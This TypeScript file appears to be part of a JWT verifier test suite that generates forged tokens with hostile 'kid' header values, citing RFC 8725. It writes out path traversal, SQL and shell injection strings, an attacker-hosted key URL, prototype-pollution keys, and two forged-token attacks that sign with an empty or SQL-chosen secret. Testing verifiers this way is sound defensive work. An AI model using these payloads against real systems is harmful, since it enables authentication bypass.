import { seal } from "../compact.ts";
import type { Attacks } from "./forge.ts";
import { hmac } from "./hmac.ts";

/** The kid is the sender's text, and is looked up somewhere (RFC 8725 section 3.10). */
export const kidAttacks: Attacks = async function* ({ attacker, key, claims, header, forged }) {
  const swapped = key.kid.toUpperCase();
  const injections: readonly (readonly [name: string, kid: string, what: string])[] = [
    ["unknown", attacker.kid, "A kid that the issuer never published"],
    ["empty", "", "An empty kid"],
    ["path", "../../../../../../dev/null", "A kid that climbs to an empty file"],
    ["sql", "0' UNION SELECT 'attacker' -- ", "A kid that rewrites an SQL query"],
    ["command", "key.pem|id", "A kid that runs a command where files are opened by a shell"],
    ["url", "https://attacker.example/jwks#0", "A kid that is the URL of the attacker's key"],
    ["proto", "__proto__", "A kid that every plain object answers to"],
    ["constructor", "constructor", "A kid that every plain object inherits"],
    ["index", "0", "A kid that is an index into the list of keys"],
    ["wildcard", "*", "A kid that means any key to a pattern"],
    ["upper-case", swapped, "A published kid in upper case: a kid has a case"],
    ["prefix", key.kid.slice(0, 8), "The start of a published kid"],
    ["trailing-nul", `${key.kid}\0`, "A published kid with a NUL behind, where strings may end"],
    ["very-long", "k".repeat(4096), "A kid of four thousand letters"],
  ];
  for (const [name, kid, what] of injections) {
    yield {
      name: `kid-${name}`,
      token: await forged({ kid }),
      why: `${what}, signed by the attacker. A kid may only be compared with the published ones, as it is (RFC 7515 section 4.1.4, RFC 8725 section 3.10).`,
    };
  }
  const shapes: readonly (readonly [name: string, kid: unknown])[] = [
    ["object", { $ne: null }],
    ["array", [key.kid]],
    ["number", 0],
    ["null", null],
    ["true", true],
  ];
  for (const [name, kid] of shapes) {
    yield {
      name: `kid-is-${name}`,
      token: await forged({ kid }),
      why: "The attacker signed it, and the kid is no string, as it must be (RFC 7515 section 4.1.4): in a query or a lookup it may match any key (RFC 8725 section 3.10).",
    };
  }
  const emptyFile = { ...header, alg: "HS256", kid: "../../../../../../dev/null" };
  yield {
    name: "kid-path-to-an-empty-secret",
    token: await seal(emptyFile, claims, hmac("SHA-256", Uint8Array.of(0))),
    why: "The kid leads to an empty file, and an HMAC with an empty secret signed it: path traversal makes the key known (RFC 8725 section 3.10).",
  };
  const fromQuery = { ...header, alg: "HS256", kid: "0' UNION SELECT 'attacker' -- " };
  yield {
    name: "kid-sql-that-returns-the-secret",
    token: await seal(fromQuery, claims, hmac("SHA-256", "attacker")),
    why: "The kid makes a database answer with a secret of the attacker's choice, and an HMAC with that secret signed it (RFC 8725 section 3.10).",
  };
};
